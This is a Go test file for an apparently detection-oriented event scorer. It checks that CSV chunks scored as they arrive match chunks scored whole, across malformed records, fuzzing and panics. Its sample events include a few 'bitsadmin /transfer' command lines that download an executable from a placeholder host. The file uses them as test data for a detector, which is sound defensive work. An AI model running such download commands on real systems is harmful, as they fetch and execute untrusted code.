package command

import (
	"bytes"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"
	"unsafe"

	"bitsscore/src/detect"
	"bitsscore/src/internal/testevents"
)

// deliver feeds body to a as scp's ReadMessageFunc would: growing
// prefixes of one buffer, cut into reads of random sizes up to maxRead,
// the buffer's capacity the whole body (the warm buffer of a session
// past its first chunk) or, with growing, 1 MiB at first and then the
// rest (a session's first chunk).
func deliver(a *arrival, body []byte, rng *rand.Rand, maxRead int, growing bool) {
	buf := make([]byte, 0, len(body))
	if growing {
		buf = make([]byte, 0, min(len(body), 1<<20))
	}
	for len(buf) < len(body) {
		if len(buf) == cap(buf) {
			grown := make([]byte, len(buf), len(body))
			copy(grown, buf)
			buf = grown
		}
		n := min(1+rng.IntN(maxRead), cap(buf)-len(buf), len(body)-len(buf))
		buf = append(buf, body[len(buf):len(buf)+n]...)
		a.arrived(buf, len(body))
	}
}

// Scored as it arrives, in reads of any size, a chunk's reply is byte for
// byte the reply scored in one piece, and its error the same error, in
// both modes: for well-formed bodies, for ones that mislead quote parity,
// for records longer than a run, and
// for bodies with a malformed record at the start, the middle or the end.
func TestArrivalEqualsSequential(t *testing.T) {
	newHardened := hardenedDetectors(t)
	big := testevents.Body(12000, 11) // about 2.7 MB
	lines := strings.SplitAfter(string(big), "\n")
	withLine := func(i int, line string) []byte {
		l := append([]string(nil), lines...)
		l[i] = line
		return []byte(strings.Join(l, ""))
	}
	long := `"` + strings.Repeat("x", 200<<10) + ` bitsadmin /transfer j http://a.example/x.exe C:\x.exe","C:\Windows\System32\bitsadmin.exe",7,,,` + "\n"
	bodies := map[string][]byte{
		"realistic": big,
		// A stray quote inside an unquoted cell flips quote parity for
		// everything after it.
		"stray quote":              bytes.Replace(big, []byte("\n\"taskhostw.exe "), []byte("\ntaskhostw\".exe "), 1),
		"record longer than a run": withLine(6000, long),
		// An unterminated quote misleads parity for the rest of the body;
		// a short record and bytes after a closing quote do not, so runs
		// cut past them and the error comes from a run scored early.
		"unterminated quote":         withLine(40, "\"unterminated,x,1,,,\n"),
		"short record in the middle": withLine(6000, "a,b\n"),
		"text after a closing quote": withLine(7000, "\"x\"y,z,1,,,\n"),
		"short record at the end":    withLine(len(lines)-2, "a,b\n"),
	}
	for name, body := range bodies {
		for _, mode := range []struct {
			name string
			new  func() detect.Detector
		}{{"spl", detect.NewSPL}, {"hardened", newHardened}} {
			t.Run(name+"/"+mode.name, func(t *testing.T) {
				want, wantErr := scoreBody(t, newChunkScorer(mode.new()), body)
				p := newParallelScorer(mode.new, 2)
				rng := rand.New(rand.NewPCG(uint64(len(body)), 7))
				scoredEarly := false
				for i, maxRead := range []int{1 << 20, 64 << 10, 300 << 10, 7919} {
					a := p.beginArrival()
					deliver(a, body, rng, maxRead, i%2 == 0)
					parts, early, err := a.finish(body)
					if wantErr != nil {
						if err == nil || err.Error() != wantErr.Error() {
							t.Fatalf("reads of up to %d: error %v, want %v", maxRead, err, wantErr)
						}
						continue
					}
					if err != nil {
						t.Fatalf("reads of up to %d: %v", maxRead, err)
					}
					if got := checkedReply(t, parts); !bytes.Equal(got, want) {
						t.Fatalf("reads of up to %d: reply differs from the sequential one (%d vs %d bytes)", maxRead, len(got), len(want))
					}
					scoredEarly = scoredEarly || early > 0
				}
				// The path under test ran: what arrives in reads was scored
				// as it arrived, where the body allows it.
				if (name == "realistic" || name == "record longer than a run") && !scoredEarly {
					t.Error("nothing was scored as it arrived")
				}
			})
		}
	}
}

// A small chunk, a chunk that arrives whole, and a session with one
// worker are scored when whole, as before.
func TestArrivalOnlyForLargeChunksInPieces(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	small := testevents.Body(1000, 3)
	large := testevents.Body(8000, 4)
	for _, tt := range []struct {
		name    string
		body    []byte
		workers int
		maxRead int
	}{
		{"small chunk", small, 2, 4096},
		{"large chunk in one read", large, 2, len(large)},
		{"one worker", large, 1, 64 << 10},
	} {
		p := newParallelScorer(detect.NewSPL, tt.workers)
		a := p.beginArrival()
		if tt.maxRead == len(tt.body) {
			a.arrived(tt.body, len(tt.body))
		} else {
			deliver(a, tt.body, rng, tt.maxRead, false)
		}
		if a.active {
			t.Errorf("%s: scored as it arrived", tt.name)
		}
		if _, early, err := a.finish(tt.body); err != nil || early != 0 {
			t.Errorf("%s: %d bytes scored early, err %v", tt.name, early, err)
		}
	}
}

// A chunk cut short is stopped: the early worker ends, and the scorer
// scores the next chunk as if nothing had happened.
func TestArrivalStoppedMidway(t *testing.T) {
	body := testevents.Body(12000, 5)
	p := newParallelScorer(detect.NewSPL, 2)
	a := p.beginArrival()
	buf := make([]byte, 0, len(body))
	for len(buf) < len(body)/2 {
		buf = append(buf, body[len(buf):len(buf)+64<<10]...)
		a.arrived(buf, len(body))
	}
	if !a.active {
		t.Fatal("half a large chunk in 64 KiB reads was not being scored")
	}
	a.stop()
	want, err := scoreBody(t, newChunkScorer(detect.NewSPL()), body)
	if err != nil {
		t.Fatal(err)
	}
	a = p.beginArrival()
	deliver(a, body, rand.New(rand.NewPCG(3, 4)), 128<<10, false)
	parts, _, err := a.finish(body)
	if err != nil {
		t.Fatal(err)
	}
	if got := checkedReply(t, parts); !bytes.Equal(got, want) {
		t.Error("the chunk after a stopped one differs from the sequential reply")
	}
}

// FuzzArrivalEqualsWhole holds scoring as a chunk arrives to scoring it
// whole, on any records: the fuzzer's body is made into a chunk large
// enough to be scored as it arrives by repeating its records, and is
// delivered in reads of sizes drawn from seed.
func FuzzArrivalEqualsWhole(f *testing.F) {
	f.Add(testevents.Body(40, 1), uint64(1))
	f.Add([]byte("CommandLine,Image,_chunked_idx\n\"a\nb\",x,1\n\"bitsadmin /transfer j http://e.example/a.exe c:\\a.exe\",\"C:\\bitsadmin.exe\",2\n"), uint64(2))
	f.Add([]byte("CommandLine,Image\nta\"skhostw.exe,x\n\"q\"\"q\",y\n"), uint64(3))
	f.Add([]byte("CommandLine,Image\n\"open,x\nz,y\n"), uint64(4))
	f.Add([]byte("CommandLine,Image\n\"x\"y,z\na\n"), uint64(5))
	f.Fuzz(func(t *testing.T, body []byte, seed uint64) {
		nl := bytes.IndexByte(body, '\n')
		if nl < 0 || nl == len(body)-1 || len(body) > 4096 {
			return
		}
		records := body[nl+1:]
		if records[len(records)-1] != '\n' {
			records = append(records[:len(records):len(records)], '\n')
		}
		chunk := append([]byte(nil), body[:nl+1]...)
		for len(chunk) < minParallelBody+minParallelBody/2 {
			chunk = append(chunk, records...)
		}
		want, wantErr := scoreBody(t, newChunkScorer(detect.NewSPL()), chunk)
		p := newParallelScorer(detect.NewSPL, 2)
		rng := rand.New(rand.NewPCG(seed, seed>>7))
		a := p.beginArrival()
		deliver(a, chunk, rng, 1+int(seed%(512<<10)), seed%2 == 0)
		parts, _, err := a.finish(chunk)
		if (err == nil) != (wantErr == nil) || (err != nil && err.Error() != wantErr.Error()) {
			t.Fatalf("error %v, want %v", err, wantErr)
		}
		if err == nil && !bytes.Equal(checkedReply(t, parts), want) {
			t.Fatal("reply differs from the whole chunk's")
		}
	})
}

// boomDetector panics on an event whose Image holds "BOOM".
type boomDetector struct{ detect.Detector }

func (d boomDetector) Score(in, out []detect.Values) {
	for _, v := range in[slices.Index(d.Inputs(), "Image")] {
		if bytes.Contains(v, []byte("BOOM")) {
			panic("BOOM in Score")
		}
	}
	d.Detector.Score(in, out)
}

// A panic in a run scored as the chunk arrived is not lost with its
// goroutine: finish, or stop when the chunk is cut short, raises it again
// on the session's goroutine, where Session.Run reports it.
func TestArrivalPanicReachesTheSession(t *testing.T) {
	body := testevents.Body(12000, 6)
	lines := strings.SplitAfter(string(body), "\n")
	lines[300] = "\"x\",\"C:\\BOOM.exe\",300,,,\n" // in the first run
	body = []byte(strings.Join(lines, ""))
	newBomb := func() detect.Detector { return boomDetector{detect.NewSPL()} }
	for _, end := range []string{"finish", "stop"} {
		t.Run(end, func(t *testing.T) {
			p := newParallelScorer(newBomb, 2)
			a := p.beginArrival()
			n := 64 << 10
			for ; n < len(body)/2; n += 64 << 10 {
				a.arrived(body[:n], len(body))
			}
			if !a.active {
				t.Fatal("the chunk was not being scored as it arrived")
			}
			defer func() {
				rp, ok := recover().(*runPanic)
				if !ok || rp.value != "BOOM in Score" || !bytes.Contains(rp.stack, []byte("boomDetector")) {
					t.Errorf("recovered %#v, want the worker's panic with its stack", rp)
				}
			}()
			if end == "stop" {
				// The early worker has taken the first run, which holds the
				// bomb: stop lets it finish that run, and so hears of it.
				for deadline := time.Now().Add(10 * time.Second); a.claimed.Load() == 0 && time.Now().Before(deadline); {
					time.Sleep(time.Millisecond)
				}
				a.stop()
			} else {
				for ; n < len(body); n += 64 << 10 {
					a.arrived(body[:n], len(body))
				}
				a.arrived(body, len(body))
				a.finish(body)
			}
			t.Errorf("%s returned without raising the panic", end)
		})
	}
}

// The reply buffers of a session's runs, used again chunk after chunk,
// hold about one chunk's reply, however the chunks' reads fall: each
// buffer keeps the largest run it has held, and runs of one length keep
// that near one run's reply. (Runs that ended where a read ended made some
// buffers hold a whole read's reply and others a short run's, chunk by
// chunk, until they held several chunks' worth.)
func TestArrivalReplyBuffersStayNearOneReply(t *testing.T) {
	newHardened := hardenedDetectors(t)
	body := testevents.Body(40000, 5) // about 9 MB
	held := func(ws []*replyWriter) int {
		n := 0
		for _, w := range ws {
			n += cap(w.Encoded()) + cap(w.shared)*int(unsafe.Sizeof(sharedSpan{}))
		}
		return n
	}
	seq := newChunkScorer(newHardened())
	if _, err := seq.score(body); err != nil {
		t.Fatal(err)
	}
	one := held([]*replyWriter{seq.w})
	p := newParallelScorer(newHardened, 2)
	rng := rand.New(rand.NewPCG(5, 5))
	for chunk := range 12 {
		a := p.beginArrival()
		maxRead := []int{200 << 10, 1 << 20, 64 << 10, 700 << 10}[chunk%4]
		deliver(a, body, rng, maxRead, chunk == 0)
		if _, _, err := a.finish(body); err != nil {
			t.Fatal(err)
		}
	}
	if got := held(p.replies.runs); got > one*3/2 {
		t.Errorf("after 12 chunks the runs' reply buffers hold %d bytes, %.1f times one sequential reply's %d", got, float64(got)/float64(one), one)
	}
}
